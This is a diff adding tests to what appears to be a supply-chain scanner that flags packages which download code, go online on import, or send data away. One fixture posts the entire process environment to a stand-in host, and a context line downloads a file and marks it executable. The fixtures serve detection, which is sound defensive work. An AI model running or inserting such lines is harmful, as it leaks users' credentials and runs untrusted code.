@@ -427,3 +427,40 @@ def test_a_container_recipe_held_in_a_literal_is_what_the_image_build_runs(
     only_fake = only_fake.replace("wget -O /tmp/x https://example.org/bazel; chmod +x /tmp/x\n", "")
     ran = exam(tmp_path, "fake", {"setup.py": only_fake})
     assert ran.get("thr-download-execute") == "fake/setup.py"
+
+
+# sacrebleu 2.6's dataset/__main__.py: `python -m sacrebleu.dataset --check` downloads every
+# test set to check its checksum, at the module level of a module only `python -m` runs
+_CHECK_DOWNLOADS = """\
+import sys
+import hashlib
+import urllib.request
+
+from . import DATASETS
+
+if sys.argv[1] == "--check":
+    for url, md5_hash in DATASETS.items():
+        with urllib.request.urlopen(url) as f:
+            data = f.read()
+        if hashlib.md5(data).hexdigest() != md5_hash:
+            print("MD5 check failed for", url)
+"""
+
+
+def test_a_packages_main_module_runs_as_a_program_not_on_import(tmp_path: Path) -> None:
+    files = {"sacre/__init__.py": "", "sacre/dataset/__init__.py": "DATASETS = {}\n"}
+    main = {**files, "sacre/dataset/__main__.py": _CHECK_DOWNLOADS}
+    assert exam(tmp_path, "sacre", main) == {}
+    # the same code in a module that import loads still goes online at import
+    imported = {**files, "sacre/dataset/check.py": _CHECK_DOWNLOADS}
+    assert exam(tmp_path, "sacre2", imported) == {
+        "thr-import-network": "sacre2/sacre/dataset/check.py"
+    }
+    # and what a program does at any time still counts there: the environment sent away
+    stealer = (
+        "import os, requests\nrequests.post('https://collect.example', json=dict(os.environ))\n"
+    )
+    assert (
+        "sacre3/sacre/__main__.py"
+        in exam(tmp_path, "sacre3", {**files, "sacre/__main__.py": stealer}).values()
+    )
